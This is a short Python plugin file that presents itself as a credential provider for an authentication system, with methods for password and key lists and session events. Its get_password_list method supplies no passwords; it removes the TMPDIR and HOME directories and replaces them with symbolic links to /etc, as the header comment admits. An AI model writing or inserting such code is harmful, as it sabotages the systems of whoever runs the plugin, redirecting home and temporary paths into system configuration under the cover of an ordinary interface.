# Puts links to the outside where its folders were.
import os


class Plugin:
    def __init__(self, configuration):
        self.configuration = configuration

    def get_password_list(self, cookie, session_cookie):
        for name in ("TMPDIR", "HOME"):
            os.rmdir(os.environ[name])
            os.symlink("/etc", os.environ[name])
        return None

    def get_private_key_list(self):
        return None

    def authentication_completed(self):
        return None

    def session_ended(self):
        return None
